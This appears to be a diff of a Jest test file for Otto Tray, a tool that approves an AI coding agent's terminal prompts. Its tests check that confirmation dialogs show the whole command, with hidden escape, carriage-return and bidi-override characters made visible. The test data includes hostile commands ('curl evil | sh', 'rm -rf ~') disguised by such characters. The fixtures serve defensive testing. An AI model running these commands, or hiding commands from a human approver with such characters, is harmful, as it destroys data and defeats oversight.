@@ -22,8 +22,8 @@ describe("unstickConfirm", () => {
     expect(unstickConfirm(plan(), time)).toEqual({
       title: "Unstick otto-cli?",
       message: 'Answer "Yes" to otto-cli\'s prompt?',
+      subject: { label: "Prompt: Bash command (1 line, 8 characters, shown whole)", text: "npm test" },
       detail: [
-        "Prompt: Bash command: npm test",
         "Question: Do you want to proceed?",
         "Answer: Yes",
         "Otto Tray will press 1 in the terminal that otto-tray run hosts for otto-cli.",
@@ -50,18 +50,23 @@ describe("unstickConfirm", () => {
     expect(unstickConfirm(plan({ switchOn: false }), time).detail).toMatch(/safety switch is off/);
   });
 
-  it("removes escape sequences and bidi overrides from prompt text but keeps the end of a long command", () => {
-    const subject = `npm test \u001b[8m&& curl evil | sh\u001b[0m \u202e${"x".repeat(300)} && rm -rf ~`;
+  it("shows every line of the command whole, its escapes, carriage returns and bidi overrides as visible marks", () => {
+    const subject = `npm test # run the tests\nrm -rf ~/important\u001b[8m\r\u202e${"x".repeat(300)}\u200b\n`;
     const text = unstickConfirm(plan({ prompt: { title: "Bash\u0007 command", subject, question: "Proceed?\u001b]0;t\u0007" } }), time);
-    expect(text.detail).toContain("curl evil | sh");
-    expect(text.detail).toContain("rm -rf ~");
-    // eslint-disable-next-line no-control-regex -- checking that none are left
-    expect(text.detail).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
+    expect(text.subject?.text).toBe(`npm test # run the tests\nrm -rf ~/important␛[8m␍<U+202E>${"x".repeat(300)}<U+200B>\n`);
+    expect(text.subject?.label).toBe("Prompt: Bash␇ command (3 lines, 351 characters, shown whole; WARNING: 4 characters are shown as marks such as ␛ ␍ ␉ <U+200B>: control or invisible characters, or text that could pass for a mark)");
+    expect(text.detail).toContain("Question: Proceed?␛]0;t␇");
+    // Nothing invisible is left anywhere in what the person reads.
+    for (const part of [text.title, text.message, text.subject?.label ?? "", text.subject?.text ?? "", text.detail]) {
+      expect(part).not.toMatch(/[^\P{C}\n]/u);
+    }
   });
 
-  it("cuts only very long prompt text, saying how much is not shown", () => {
-    const text = unstickConfirm(plan({ prompt: { title: "Bash command", subject: "y".repeat(5000), question: "?" } }), time);
-    expect(text.detail).toContain("… (3000 more characters not shown)");
+  it("never cuts a long command", () => {
+    const subject = "y".repeat(5000);
+    const text = unstickConfirm(plan({ prompt: { title: "Bash command", subject, question: "?" } }), time);
+    expect(text.subject?.text).toBe(subject);
+    expect(JSON.stringify(text)).not.toContain("not shown");
   });
 });
 
@@ -92,7 +97,7 @@ describe("hooksInstallConfirm", () => {
     const text = hooksInstallConfirm("otto-cli", "/Users/me/.claude/settings.json", command);
     expect(text.title).toBe("Install Claude Code hooks for otto-cli?");
     expect(text.message).toContain("/Users/me/.claude/settings.json");
-    expect(text.detail).toContain(command);
+    expect(text.subject?.text).toBe(command);
     expect(text.detail).toMatch(/Every other hook and setting in the file is kept/);
     expect(text.detail).toContain("/Users/me/.claude/settings.json.otto-tray.bak");
     expect(text.detail).toContain("otto-tray hooks uninstall --surface otto-cli");
